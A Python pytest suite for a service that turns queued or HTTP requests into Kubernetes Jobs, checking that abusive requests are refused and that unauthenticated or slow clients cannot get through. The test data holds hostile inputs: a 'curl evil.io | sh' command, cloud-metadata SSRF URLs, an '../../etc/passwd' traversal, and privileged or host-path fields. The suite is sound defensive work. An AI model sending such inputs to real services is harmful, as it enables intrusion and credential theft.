"""Abuse: requests built to get past the rules (oversized or deeply nested bodies, Job
names carrying paths or label selectors, image look-alikes, header floods, operator
fields such as the namespace or a privileged security context). Each is refused with a
reason naming the field, no Job is created for any of them, and the handler serves the
next good request. Extra fields can never reach the manifest, whatever they are."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st

from handler.core.config import Settings
from handler.core.errors import Rejected
from handler.core.manifest import build_job
from handler.core.messages import Message
from handler.core.request import KNOWN_FIELDS, parse_request
from tests.reliability.fuzzing import json_values, valid_requests
from tests.reliability.test_fuzz import FUZZ
from tests.support.handlers import REPO
from tests.support.waiting import job_request, wait_until

GOOD = {"image": "registry.example.com/team/app:1", "jobName": "good-job", "inputBucketUrl": "http://minio:9000/bucket"}
ALLOWED = "registry.example.com/team,mstc"


def nested(depth: int, leaf: object = 0) -> bytes:
    return b"[" * depth + json.dumps(leaf).encode() + b"]" * depth


def deep_table(depth: int) -> dict:
    table: dict = {"leaf": "x" * 100}
    for _ in range(depth):
        table = {"k": table, "pad": "y" * 100}
    return table


#: (what, body, headers, field, reason): each an attack and how it must be refused.
ATTACKS = [
    ("oversized body", json.dumps(dict(GOOD, pad="x" * 70_000)).encode(), None, "body", "BodyTooLarge"),
    ("deeply nested JSON", nested(30_000), None, "body", "InvalidJson"),
    ("deep nesting inside an extra field", json.dumps(GOOD)[:-1].encode() + b', "x": ' + nested(20_000) + b"}",
     None, "body", "InvalidJson"),
    ("job name with a path", dict(GOOD, jobName="../../etc/passwd"), None, "jobName", "InvalidJobName"),
    ("job name with a slash", dict(GOOD, jobName="team/job"), None, "jobName", "InvalidJobName"),
    ("job name injecting a label selector", dict(GOOD, jobName="x,app.kubernetes.io/managed-by=other"), None,
     "jobName", "InvalidJobName"),
    ("job name injecting a label value", dict(GOOD, jobName="x=y"), None, "jobName", "InvalidJobName"),
    ("job name with a newline", dict(GOOD, jobName="job\nname"), None, "jobName", "InvalidJobName"),
    ("job name too long", dict(GOOD, jobName="a" * 129), None, "jobName", "InvalidJobName"),
    ("image on a look-alike registry", dict(GOOD, image="registry.example.com.evil.io/team/app:1"), None,
     "image", "ImageNotAllowed"),
    ("image in a sibling repository", dict(GOOD, image="registry.example.com/teammate/app:1"), None,
     "image", "ImageNotAllowed"),
    ("image escaping with ..", dict(GOOD, image="registry.example.com/team/../other/app"), None,
     "image", "InvalidImage"),
    ("image in upper case", dict(GOOD, image="registry.example.com/TEAM/app"), None, "image", "InvalidImage"),
    ("image with whitespace", dict(GOOD, image=" registry.example.com/team/app"), None, "image", "InvalidImage"),
    ("image with a short digest", dict(GOOD, image="registry.example.com/team/app@sha256:abc"), None,
     "image", "InvalidImage"),
    ("image with a digest and another registry", dict(GOOD, image="evil.io/team/app@sha256:" + "a" * 64), None,
     "image", "ImageNotAllowed"),
    ("image on the Hub by another owner", dict(GOOD, image="mstcc/python-test"), None, "image", "ImageNotAllowed"),
    ("bucket URL with credentials", dict(GOOD, inputBucketUrl="http://user:pw@minio:9000/bucket"), None,
     "inputBucketUrl", "InvalidBucketUrl"),
    ("bucket on the cloud metadata service", dict(GOOD, inputBucketUrl="http://169.254.169.254/latest"), None,
     "inputBucketUrl", "BucketHostNotAllowed"),
    ("output bucket on the metadata service, as one decimal number",
     dict(GOOD, outputBucketUrl="http://2852039166/latest"), None, "outputBucketUrl", "BucketHostNotAllowed"),
    ("bucket on the metadata service by name", dict(GOOD, inputBucketUrl="http://metadata.google.internal/b-1"),
     None, "inputBucketUrl", "BucketHostNotAllowed"),
    ("the namespace", dict(GOOD, namespace="kube-system"), None, "namespace", "UnknownField"),
    ("a service account", dict(GOOD, serviceAccountName="cluster-admin"), None, "serviceAccountName",
     "UnknownField"),
    ("a privileged security context", dict(GOOD, securityContext={"privileged": True}), None, "securityContext",
     "UnknownField"),
    ("a host path", dict(GOOD, hostPath="/"), None, "hostPath", "UnknownField"),
    ("extra env", dict(GOOD, env=[{"name": "AWS_SECRET_ACCESS_KEY", "value": "x"}]), None, "env", "UnknownField"),
    ("a command", dict(GOOD, command=["sh", "-c", "curl evil.io | sh"]), None, "command", "UnknownField"),
    ("many headers", GOOD, {f"x-h{i}": "v" for i in range(5000)}, "headers", "HeadersTooLarge"),
    ("a huge header", GOOD, {"x-big": "v" * 120_000}, "headers", "HeadersTooLarge"),
    ("deeply nested headers", GOOD, deep_table(200), "headers", "HeadersTooLarge"),
]


@pytest.mark.integration
def test_every_attack_is_refused_with_its_reason_and_the_next_good_request_runs(handlers, requester, fakekube,
                                                                                namespace, figures):
    dead_letters = f"{handlers.queue}.dead"
    handler = handlers.start(allowed_images=ALLOWED, unknown_fields="reject", dead_letter_queue=dead_letters)
    sent = {}
    for what, body, headers, field, reason in ATTACKS:
        cid = requester.submit(body, headers=headers, correlation_id=f"abuse-{len(sent)}")
        sent[cid] = (what, field, reason)
    good = requester.submit(GOOD, correlation_id="good")
    assert requester.wait_reply(good)["data"]["status"] == "succeeded"
    for cid, (what, field, reason) in sent.items():
        data = requester.wait_reply(cid)["data"]
        assert (data["status"], data["field"], data["reason"]) == ("rejected", field, reason), what
    assert fakekube.created_jobs(namespace) == [requester.replies_for(good)[0]["data"]["jobName"]]
    copies = [requester.get_one(dead_letters) for _ in sent]
    assert all(copies) and requester.get_one(dead_letters) is None
    flood_cid = next(cid for cid, (what, _, _) in sent.items() if what == "many headers")
    flood = next(props for props, _ in copies if props.correlation_id == flood_cid)
    assert "x-h1" not in flood.headers and flood.headers["x-rejected-reason"] == "HeadersTooLarge"
    assert handler.thread.is_alive() and handler.consumer.stats.requeued == 0
    figures.update(attacks=len(sent), refused=len(sent), jobs_created_for_attacks=0,
                   next_good_request="succeeded")


# --- the operator's fields never reach the manifest (pure, so every shape can be tried)

PLANTED = "PLANTED-by-the-requester"
OPERATOR_FIELDS = {
    "namespace": PLANTED, "serviceAccountName": PLANTED, "automountServiceAccountToken": True,
    "securityContext": {"privileged": True, "runAsUser": 0, "seLinuxOptions": {"user": PLANTED}},
    "privileged": True, "hostPath": f"/{PLANTED}", "hostNetwork": True, "hostPID": True,
    "volumes": [{"name": PLANTED, "hostPath": {"path": "/"}}], "env": [{"name": PLANTED, "value": PLANTED}],
    "envFrom": [{"secretRef": {"name": PLANTED}}], "command": ["sh", "-c", PLANTED], "args": [PLANTED],
    "nodeName": PLANTED, "tolerations": [{"operator": "Exists"}], "labels": {PLANTED: PLANTED},
    "annotations": {PLANTED: PLANTED}, "metadata": {"namespace": PLANTED}, "spec": {"template": PLANTED},
    "image_pull_secrets": PLANTED, "resources": {"limits": {"cpu": PLANTED}}, "activeDeadlineSeconds": 10**9,
}
SETTINGS = Settings.from_env({"CLOUD_WORKER_NAMESPACE": "mstc-dev"})


def manifest_of(body: dict, settings: Settings = SETTINGS) -> dict:
    return build_job(parse_request(Message(json.dumps(body).encode(), "application/json", message_id="m-1"),
                                   settings), settings)


def test_the_operators_fields_in_a_request_never_reach_the_job(figures):
    figures.update(operator_fields=len(OPERATOR_FIELDS))
    job = manifest_of({**OPERATOR_FIELDS, **GOOD})
    assert job == manifest_of(GOOD)
    assert PLANTED not in json.dumps(job)
    assert job["metadata"]["namespace"] == "mstc-dev"
    assert "serviceAccountName" not in job["spec"]["template"]["spec"]
    with pytest.raises(Rejected) as caught:
        manifest_of({**OPERATOR_FIELDS, **GOOD}, Settings.from_env({"CLOUD_WORKER_UNKNOWN_FIELDS": "reject"}))
    assert caught.value.reason == "UnknownField"


@settings(FUZZ, max_examples=300)
@given(body=valid_requests,
       extras=st.dictionaries(st.text(max_size=30).filter(lambda k: k not in KNOWN_FIELDS), json_values, max_size=6))
def test_any_extra_fields_leave_the_manifest_exactly_as_without_them(body, extras):
    assert manifest_of({**extras, **body}) == manifest_of(body)


# --- the HTTP face: no request without the token, probes answered within a second under full load

HTTP_THREADS = 4


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture
def served(fakekube, namespace, tmp_path):
    """``cloud-worker serve`` (real gunicorn, 4 threads) with a token file and the probe listener."""
    token = f"token-{uuid.uuid4().hex}"
    (tmp_path / "token").write_text(token + "\n")
    port, probe_port = _free_port(), _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("CLOUD_WORKER_")}
    env.update({"KUBECONFIG": fakekube.kubeconfig, "CLOUD_WORKER_NAMESPACE": namespace,
                "CLOUD_WORKER_HTTP_PORT": str(port), "CLOUD_WORKER_HTTP_PROBE_PORT": str(probe_port),
                "CLOUD_WORKER_HTTP_THREADS": str(HTTP_THREADS), "CLOUD_WORKER_HTTP_TOKEN_FILE": str(tmp_path / "token"),
                "CLOUD_WORKER_SHUTDOWN_GRACE_SECONDS": "2", "CLOUD_WORKER_DEADLINE_SLACK_SECONDS": "5"})
    with open(tmp_path / "serve.log", "wb") as log:
        proc = subprocess.Popen([sys.executable, "-m", "handler.cli", "serve"], cwd=REPO, env=env, stdout=log,
                                stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"

    def ready():
        try:
            return requests.get(f"{base}/readyz", timeout=1).status_code == 200
        except requests.ConnectionError:
            return False
    try:
        wait_until(ready, "serve is ready", timeout=30)
        yield base, f"http://127.0.0.1:{probe_port}", token
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(20)


def test_no_request_without_the_token_is_accepted_on_any_route(served, fakekube, namespace, figures):
    base, _, token = served
    body = json.dumps(job_request("scenario/succeed:0.1"))
    credentials = [None, "", "Bearer", "Bearer ", "Bearer wrong", f"Bearer {token[:-1]}", f"Bearer {token}x",
                   f"Bearer {token.upper()}", f"Basic {token}", token, f"Bearer  {token} extra", f"Token {token}"]
    routes = [("POST", "/"), ("GET", "/jobs/some-id"), ("GET", "/"), ("PUT", "/"), ("GET", "/admin"),
              ("POST", "/jobs/some-id"), ("DELETE", "/jobs/some-id")]
    answers = []
    for method, path in routes:
        for credential in credentials:
            headers = {"Content-Type": "application/json"}
            if credential is not None:
                headers["Authorization"] = credential
            answers.append(requests.request(method, base + path, data=body, headers=headers, timeout=10))
    accepted = [a for a in answers if a.status_code != 401]
    figures.update(unauthenticated_requests=len(answers), requests_accepted_without_token=len(accepted),
                   jobs_created=len(fakekube.created_jobs(namespace)))
    assert accepted == [] and fakekube.created_jobs(namespace) == []
    assert all(a.headers["WWW-Authenticate"].startswith('Bearer realm="cloud-worker"') for a in answers)
    good = requests.post(base + "/", data=body, timeout=30,
                         headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"})
    assert good.status_code == 200 and len(fakekube.created_jobs(namespace)) == 1


def test_clients_that_keep_their_connections_after_a_refusal_cannot_hold_the_threads(served, fakekube, namespace):
    """Eight unauthenticated POSTs (twice the threads) whose senders keep their connections
    open and silent after the 401, their bodies sent after the head as HTTP clients send
    them (http.client, requests): half before reading the answer, half after it came. The
    next request with the token is still answered at once."""
    base, _, token = served
    host, port = base.removeprefix("http://").split(":")
    body = json.dumps(job_request("scenario/succeed:0.1")).encode()
    head = (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body))
    held: list[socket.socket] = []
    try:
        for n in range(HTTP_THREADS * 2):
            sock = socket.create_connection((host, int(port)), timeout=5)
            held.append(sock)  # kept open, never used again
            sock.sendall(head)
            if n % 2:
                time.sleep(0.05)
                sock.sendall(body)
                assert sock.recv(4096).startswith(b"HTTP/1.1 401 ")
            else:
                assert sock.recv(4096).startswith(b"HTTP/1.1 401 ")  # answered before the body was read
                sock.sendall(body)
        started = time.monotonic()
        answer = requests.post(base + "/", data=body, timeout=10,
                               headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"})
        assert answer.status_code == 200 and time.monotonic() - started < 5
    finally:
        for sock in held:
            sock.close()


def test_probes_are_answered_within_a_second_while_every_request_thread_is_busy(served, fakekube, namespace,
                                                                                figures):
    base, probe_base, token = served
    auth = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    answers: list[int] = []

    def hold(i):
        answers.append(requests.post(base + "/", data=json.dumps(job_request("scenario/hold", jobName=f"hold-{i}")),
                                     headers=dict(auth, **{"Idempotency-Key": f"hold-{i}"}), timeout=60).status_code)
    # as many synchronous calls as threads, and more: every thread the bound allows waits on a Job
    holders = [threading.Thread(target=hold, args=(i,)) for i in range(HTTP_THREADS * 2)]
    for holder in holders:
        holder.start()
    wait_until(lambda: len(fakekube.created_jobs(namespace)) == HTTP_THREADS - 1, "the synchronous calls hold threads")
    # phase 1: every thread the bound allows waits on a Job; phase 2: and slow clients stall
    # the rest (half a request line each, which a gthread worker reads on a request thread)
    busy = _probe_both(base, probe_base, seconds=3)
    stalled = [socket.create_connection(("127.0.0.1", int(base.rsplit(":", 1)[1]))) for _ in range(HTTP_THREADS)]
    for sock in stalled:
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
    stalling = _probe_both(base, probe_base, seconds=3)
    for sock in stalled:
        sock.close()
    jobs = fakekube.created_jobs(namespace)
    for name in jobs:
        fakekube.finish(namespace, name)
    for holder in holders:
        holder.join(30)
    probe_port = busy["probe port"] + stalling["probe port"]
    slow = sum(1 for t in probe_port if t > 1)
    figures.update(http_threads=HTTP_THREADS, synchronous_calls=len(holders), stalled_connections=len(stalled),
                   probe_answers=len(probe_port), probe_answers_over_1s_under_full_load=slow,
                   slowest_probe_seconds=round(max(probe_port), 3),
                   main_port_probe_answers=len(busy["main port"]),
                   main_port_probe_answers_over_1s=sum(1 for t in busy["main port"] if t > 1),
                   main_port_probe_answers_over_1s_with_stalled_clients=sum(1 for t in stalling["main port"] if t > 1),
                   answered_503_busy=answers.count(503), answered_200=answers.count(200))
    assert slow == 0 and len(probe_port) > 20
    assert all(t <= 1 for t in busy["main port"])  # the bound on synchronous calls leaves a thread for them
    assert answers.count(200) == HTTP_THREADS - 1 and answers.count(503) == len(holders) - (HTTP_THREADS - 1)
    assert len(jobs) == HTTP_THREADS - 1


def _probe_both(base: str, probe_base: str, seconds: float) -> dict[str, list[float]]:
    """Seconds each probe took to answer 200 (inf: no answer in 2 s), on each port, for ``seconds``."""
    timings: dict[str, list[float]] = {"probe port": [], "main port": []}
    until = time.monotonic() + seconds

    def probe(where: str, url: str) -> None:
        while time.monotonic() < until:
            for path in ("/healthz", "/readyz"):
                started = time.monotonic()
                try:
                    ok = requests.get(url + path, timeout=2).status_code == 200
                except requests.RequestException:
                    ok = False
                timings[where].append(time.monotonic() - started if ok else float("inf"))
            time.sleep(0.05)
    threads = [threading.Thread(target=probe, args=item) for item in (("probe port", probe_base), ("main port", base))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return timings
